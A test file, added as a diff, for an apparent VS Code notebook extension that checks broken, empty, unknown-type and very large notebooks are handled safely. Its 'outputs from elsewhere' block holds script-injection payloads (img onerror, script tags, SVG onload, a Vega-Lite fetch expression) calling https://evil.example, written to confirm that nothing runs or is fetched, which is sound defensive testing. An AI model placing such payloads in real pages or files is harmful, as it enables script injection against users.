@@ -1,0 +1,210 @@
+import { describe, expect, test } from 'vitest';
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { useBed } from './bed/in-tests';
+import { Notebook } from './bed/notebook';
+import { notebookText } from './bed/notebook-text';
+import type { EditorWindow } from './bed/window';
+
+const bed = useBed();
+
+const whole = notebookText(['# A walk', 'step: load-video\nvideo: walk.mp4\nas: walks\n']);
+
+type Cell = Readonly<Record<string, unknown>>;
+
+/** A notebook with a cell to write in, and below it what else it is to hold. */
+const withCells = (...cells: readonly Cell[]): string =>
+  JSON.stringify({
+    cells: [
+      { cell_type: 'code', execution_count: null, id: 'first', metadata: {}, outputs: [], source: '#' },
+      ...cells,
+    ],
+    metadata: {},
+    nbformat: 4,
+    nbformat_minor: 5,
+  });
+/** A cell that has been run, with this output. */
+const ran = (output: Cell, index = 0): Cell => ({
+  ...{ cell_type: 'code', execution_count: 1, id: `ran-${index}`, metadata: {} },
+  ...{ outputs: [output], source: '# ran' },
+});
+const display = (data: Cell): Cell => ({ data, metadata: {}, output_type: 'display_data' });
+
+const contentOf = (window: EditorWindow, file: string): Promise<string> =>
+  readFile(path.join(window.folder, file), 'utf8');
+const cellsOf = (content: string): Cell[] => (JSON.parse(content) as { cells: Cell[] }).cells;
+
+/** Changes the first cell and saves; what else the file holds must come through as it was. */
+async function changeAndSave(notebook: Notebook, file: string, before: string): Promise<void> {
+  await notebook.typeInCell(0, ' changed');
+  await notebook.save();
+  const [first, ...others] = cellsOf(await contentOf(notebook.window, file));
+  expect(JSON.stringify(first)).toContain('# changed');
+  expect(others).toEqual(cellsOf(before).slice(1));
+}
+
+describe('a file that is no notebook', () => {
+  const broken = {
+    'cut-off.gaitnb': { content: whole.slice(0, 200), says: 'The notebook is cut off: its end is missing.' },
+    'words.gaitnb': { content: 'Dear diary', says: 'The notebook is not JSON' },
+    'old.gaitnb': {
+      content: JSON.stringify({ metadata: {}, nbformat: 3, nbformat_minor: 0, worksheets: [] }),
+      says: 'The notebook is of nbformat 3; only nbformat 4 can be read.',
+    },
+    'new.gaitnb': {
+      content: JSON.stringify({ cells: [], metadata: {}, nbformat: 5, nbformat_minor: 0 }),
+      says: 'The notebook is of nbformat 5, which is newer than this version can read (4).',
+    },
+  };
+
+  test('says why it does not open, and stays as it is', async () => {
+    const files = Object.fromEntries(Object.entries(broken).map(([name, { content }]) => [name, content]));
+    const window = await bed().newWindow({ 'whole.gaitnb': whole, ...files });
+    await window.openNotebook('whole.gaitnb');
+    for (const [name, { content, says }] of Object.entries(broken)) {
+      await window.quickOpen(name);
+      await window.notification(says);
+      await window.tab(name).waitFor();
+      await window.page.keyboard.press('Control+S');
+      expect(await window.isDirty()).toBe(false);
+      await window.screenshot(`broken ${name}`);
+      await window.closeEditor();
+      await window.tab(name).waitFor({ state: 'detached' });
+      expect(await contentOf(window, name)).toBe(content);
+    }
+  });
+});
+
+test('a file of zero bytes is a new notebook, and stays empty until something is saved in it', async () => {
+  const window = await bed().newWindow({ 'empty.gaitnb': '' });
+  await window.load('empty.gaitnb');
+  const notebook = new Notebook(window);
+  await notebook.toolbarButton('Run All').waitFor();
+  expect(await window.isDirty()).toBe(false);
+  expect(await contentOf(window, 'empty.gaitnb')).toBe('');
+  await window.command('Gait: Insert Cell: Load Video');
+  await notebook.replaceCell(0, '# begun');
+  await notebook.save();
+  expect(cellsOf(await contentOf(window, 'empty.gaitnb'))).toMatchObject([
+    { cell_type: 'code', source: ['# begun'] },
+  ]);
+});
+
+test('cells of types that nobody knows are shown, and saved as they were', async () => {
+  const before = withCells(
+    { cell_type: 'heading', id: 'old', level: 2, metadata: { a: 1 }, source: ['A heading of long ago'] },
+    { cell_type: 'quantum', id: 'new', metadata: {}, spin: { up: [1, 2] } },
+  );
+  const window = await bed().newWindow({ 'unknown.gaitnb': before });
+  const notebook = await window.openNotebook('unknown.gaitnb');
+  expect(await notebook.text(1)).toBe('A heading of long ago');
+  expect(await notebook.isDirty()).toBe(false);
+  await changeAndSave(notebook, 'unknown.gaitnb', before);
+});
+
+describe('outputs from elsewhere', () => {
+  const elsewhere = 'https://evil.example';
+  const sign = 'ranFromTheFile';
+  const script = `globalThis.${sign} = true; fetch('${elsewhere}/script')`;
+  const markup = `<img src="${elsewhere}/image.png" onerror="${script}"><script>${script}</script>`;
+  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${elsewhere}/a.png"/>${markup}</svg>`;
+  const study = {
+    ...{ kind: 'study', format: 1, recordId: 'r', name: markup, more: 0 },
+    rows: [
+      {
+        ...{ id: markup, file: markup, durationS: 1, frames: 30, fps: 30, widthPx: 640, heightPx: 360 },
+        ...{ metadata: { Subject: markup }, warnings: [markup], strip: null },
+      },
+    ],
+  };
+  const picture = { mime: 'image/svg+xml', base64: Buffer.from(drawing).toString('base64') };
+  const bars = { mark: 'bar', encoding: { x: { field: 'a' } } };
+  const outputs: readonly (readonly [output: Cell, says: RegExp])[] = [
+    [
+      display({ 'application/vnd.gait.study+json': study, 'text/html': markup }),
+      /^<img src=.*<script>globalThis/s,
+    ],
+    [
+      display({
+        'application/vnd.gait.study+json': {
+          ...study,
+          rows: [{ ...study.rows[0], strip: { picture, widthPx: 9, heightPx: 9 } }],
+        },
+      }),
+      /This output cannot be shown/,
+    ],
+    [
+      display({ 'application/vnd.gait.pose+json': { kind: 'pose', picture: `${elsewhere}/pose.png` } }),
+      /This output cannot be shown/,
+    ],
+    [display({ 'application/vnd.gait.run+json': markup }), /This output cannot be shown/],
+    [
+      display({ 'application/vnd.vegalite.v5+json': { ...bars, data: { url: `${elsewhere}/data.csv` } } }),
+      /The chart is not drawn: it refers to something outside/,
+    ],
+    [
+      display({
+        'application/vnd.vegalite.v5+json': {
+          data: { values: [{ a: `${elsewhere}/mark.png` }] },
+          ...{ mark: 'image', encoding: { url: { field: 'a' } } },
+        },
+      }),
+      /The chart is not drawn: it/,
+    ],
+    [
+      display({
+        'application/vnd.vegalite.v5+json': {
+          ...bars,
+          data: { values: [{ a: 1 }] },
+          transform: [{ calculate: `fetch('${elsewhere}/expression')`, as: 'a' }],
+        },
+      }),
+      /The chart cannot be drawn/,
+    ],
+    [display({ 'text/html': markup, 'application/javascript': script }), /Kept in the file, but not shown/],
+    [display({ 'image/svg+xml': drawing }), /Kept in the file, but not shown/],
+    [
+      { ...{ output_type: 'error', ename: markup, evalue: markup }, traceback: [markup] },
+      /<script>globalThis/,
+    ],
+  ];
+
+  test('run nothing and fetch nothing, whatever they hold, and are kept', async () => {
+    const before = withCells(...outputs.map(([output], index) => ran(output, index)));
+    const window = await bed().newWindow({ 'hostile.gaitnb': before });
+    const fetched: string[] = [];
+    window.page.context().on('request', (request) => {
+      if (request.url().startsWith(elsewhere)) fetched.push(request.url());
+    });
+    const notebook = await window.openNotebook('hostile.gaitnb');
+    for (const [index, [, says]] of outputs.entries()) {
+      await notebook.cellAtTop(index + 1);
+      const output = await notebook.untilOutput(index + 1);
+      await output.getByText(says).first().waitFor();
+    }
+    await window.screenshot('hostile outputs');
+    const signs = await Promise.all(
+      window.page.frames().map((frame) => frame.evaluate(`globalThis.${sign}`)),
+    );
+    expect(signs.filter((seen) => seen !== undefined)).toEqual([]);
+    expect(fetched).toEqual([]);
+    expect(await notebook.isDirty()).toBe(false);
+    expect(await contentOf(window, 'hostile.gaitnb')).toBe(before);
+    await changeAndSave(notebook, 'hostile.gaitnb', before);
+  });
+
+  test('of 40 MB open, say that there is more, and are kept', async () => {
+    const line = `${'long '.repeat(20)}\n`;
+    const many = Array.from({ length: (40 * 2 ** 20) / line.length }, () => line);
+    const before = withCells(ran({ name: 'stdout', output_type: 'stream', text: many }));
+    const window = await bed().newWindow({ 'large.gaitnb': before });
+    await window.load('large.gaitnb');
+    // VS Code itself asks first.
+    await window.page.getByRole('button', { name: 'Open Anyway' }).click();
+    const notebook = new Notebook(window);
+    const output = await notebook.untilOutput(1);
+    await output.getByText(/40\.0 MB in all; the rest is kept in the file and not shown/).waitFor();
+    expect(await notebook.isDirty()).toBe(false);
+    await changeAndSave(notebook, 'large.gaitnb', before);
+  });
+});
